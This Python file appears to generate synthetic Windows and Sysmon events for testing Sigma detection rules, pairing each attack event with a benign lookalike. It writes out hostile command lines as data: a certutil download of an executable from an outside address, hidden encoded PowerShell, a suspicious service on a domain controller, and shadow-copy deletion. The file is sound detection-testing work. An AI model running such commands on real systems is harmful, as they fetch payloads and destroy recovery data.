"""Events for the Sigma rules in demo/rules, each with something harmless beside it."""
import company
import core
from background.windows import DC
from clock import MINUTE, SECOND, at
from sources import winevents as ev
from sources.winsinks import fqdn
from stories.ad_03 import ENCODED

POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
DROPPED = "C:\\Users\\tamura.e\\AppData\\Local\\Temp\\請求書_11月.pdf.exe"
RULES = {
    "encoded": "7c0f7f4e-8a4c-4f0d-9a55-0d9a8c1b7101",
    "temp": "7c0f7f4e-8a4c-4f0d-9a55-0d9a8c1b7102",
    "download": "7c0f7f4e-8a4c-4f0d-9a55-0d9a8c1b7103",
    "service": "7c0f7f4e-8a4c-4f0d-9a55-0d9a8c1b7104",
    "shadow": "7c0f7f4e-8a4c-4f0d-9a55-0d9a8c1b7105",
    "agent": "7c0f7f4e-8a4c-4f0d-9a55-0d9a8c1b7106",
}


def run(world):
    dropped_program(world)
    encoded_powershell(world)
    download_tool(world)
    service_install(world)
    shadow_copies(world)


def sysmon_start(world, t, person, image, line, parent, story):
    user = f"{company.AD_NETBIOS}\\{person.user}"
    sha256 = f"{core.digest(line):08X}" * 8
    pid = 3000 + core.digest(line) % 5000 * 4
    world.emit(t, ev.sysmon_process(t, fqdn(person.pc), user, image, line, parent, parent, pid,
                                    sha256), story)
    return pid


def dropped_program(world):
    person = company.PEOPLE["tamura.e"]
    story = world.site.plant(
        "SG-temp", RULES["temp"], "high", {"host": [person.pc], "user": [person.user]},
        "メールの添付 (二重拡張子) が一時フォルダから起動された。",
        "The attachment with the double extension is started from the temporary folder.")
    t = at(0, "09:51:20")
    parent = "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"
    pid = sysmon_start(world, t, person, DROPPED, f'"{DROPPED}"', parent, story)
    world.emit(t - SECOND, ev.sysmon_file(t - SECOND, fqdn(person.pc),
                                          f"TSUKIMORI\\{person.user}", parent, DROPPED, pid))


def encoded_powershell(world):
    person = company.PEOPLE["tamura.e"]
    story = world.site.plant(
        "SG-encoded", RULES["encoded"], "high", {"host": [person.pc], "user": [person.user]},
        "符号化された命令でPowerShellが隠れて起動された。",
        "PowerShell is started hidden with an encoded command.")
    line = f"{POWERSHELL} -NoP -W Hidden -EncodedCommand {ENCODED}"
    sysmon_start(world, at(0, "09:51:47"), person, POWERSHELL, line, DROPPED, story)


def download_tool(world):
    person = company.PEOPLE["ida.k"]
    story = world.site.plant(
        "SG-download", RULES["download"], "high", {"host": [person.pc], "user": [person.user]},
        "certutil が外部からファイルを取得した (4688)。",
        "certutil fetches a file from outside (4688).")
    image = "C:\\Windows\\System32\\certutil.exe"
    computer, parent = fqdn(person.pc), "C:\\Windows\\System32\\cmd.exe"
    t = at(3, "09:27:50")
    line = ("certutil.exe -urlcache -split -f http://192.0.2.240/odsync.exe "
            "C:\\Users\\Public\\Libraries\\odsync.exe")
    world.emit(t, ev.process_created(t, computer, world.account(person), image, line, parent,
                                     7720), story)
    quiet = world.site.lookalike(
        "SG-download-x", RULES["download"], {"host": [company.PEOPLE["usami.e"].pc]},
        "certutil による証明書の確認。取得ではない。",
        "certutil used to look at a certificate, not to fetch anything.")
    other = company.PEOPLE["usami.e"]
    t = at(1, "16:20:11")
    world.emit(t, ev.process_created(t, fqdn(other.pc), world.account(other), image,
                                     "certutil.exe -dump C:\\Temp\\edi.cer", parent, 6316), quiet)


def service_install(world):
    story = world.site.plant(
        "SG-service", RULES["service"], "high", {"host": ["dc01"]},
        "DCに、一時フォルダの実行ファイルを動かすサービスが登録された (7045)。",
        "On the DC a service is installed that runs a program from a temporary folder (7045).")
    t = at(1, "13:26:15")
    world.emit(t, ev.service_installed(t, DC, f"{company.AD_SID}-500", "KBSync",
                                       "C:\\Windows\\Temp\\kbsync.exe"), story)
    quiet = world.site.lookalike(
        "SG-service-x", RULES["service"], {"host": ["dc01"]},
        "監視業者のエージェント更新によるサービス登録 (Program Files 配下)。",
        "A service installed by the monitoring agent's update, from Program Files.")
    t = at(0, "10:30:02")
    world.emit(t, ev.service_installed(t, DC, "S-1-5-18", "KanshiAgent",
                                       '"C:\\Program Files\\Kanshi\\agent.exe" -svc'), quiet)


def shadow_copies(world):
    person = company.PEOPLE["tamura.e"]
    story = world.site.plant(
        "SG-shadow", RULES["shadow"], "high", {"host": [person.pc], "user": [person.user]},
        "復元用のコピー (VSS) が削除された。", "The shadow copies are deleted.")
    image = "C:\\Windows\\System32\\vssadmin.exe"
    t = at(2, "22:40:09")
    sysmon_start(world, t, person, image, "vssadmin.exe delete shadows /all /quiet", DROPPED, story)
    quiet = world.site.lookalike(
        "SG-shadow-x", RULES["shadow"], {"host": ["TM-HQ-014"]},
        "VSSの一覧表示 (管理者による点検)。", "An administrator lists the shadow copies.")
    admin = company.PEOPLE["kinjo.t"]
    sysmon_start(world, t - 400 * MINUTE, admin, image, "vssadmin.exe list shadows",
                 "C:\\Windows\\System32\\cmd.exe", quiet)
